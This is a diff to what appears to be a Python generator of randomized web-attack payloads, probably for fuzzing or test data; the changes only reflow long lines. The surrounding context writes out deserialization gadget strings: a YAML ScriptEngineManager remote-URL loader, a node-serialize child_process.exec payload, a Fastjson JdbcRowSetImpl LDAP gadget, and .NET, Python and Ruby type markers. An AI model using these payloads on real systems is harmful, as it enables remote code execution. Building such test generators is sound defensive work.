@@ -10,7 +10,9 @@ Draw = random.Random
 
 
 def _word(draw: Draw) -> str:
-    return draw.choice(["user", "name", "mail", "login", "id", "role", "token", "q", "title", "price", "owner", "tag"])
+    return draw.choice(
+        ["user", "name", "mail", "login", "id", "role", "token", "q", "title", "price", "owner", "tag"]
+    )
 
 
 def nosqli(draw: Draw) -> str:
@@ -58,7 +60,9 @@ def deserialization(draw: Draw) -> str:
             f"!!javax.script.ScriptEngineManager [!!java.net.URL ['http://{name}.example/']]",
             "rO0ABXNy" + "".join(draw.choices("ABCDEFGHabcdefgh0123", k=24)),
             json.dumps({"rce": f"_$$ND_FUNC$$_function(){{require('child_process').exec('{command}')}}()"}),
-            json.dumps({"@type": f"com.{name.lower()}.rowset.JdbcRowSetImpl", "dataSourceName": "ldap://x/a"}),
+            json.dumps(
+                {"@type": f"com.{name.lower()}.rowset.JdbcRowSetImpl", "dataSourceName": "ldap://x/a"}
+            ),
             json.dumps({"$type": f"System.Windows.Data.{name}, PresentationFramework"}),
             json.dumps({"py/object": f"{name.lower()}.Command"}),
             f"--- !ruby/object:Gem::{name}\ni: x",
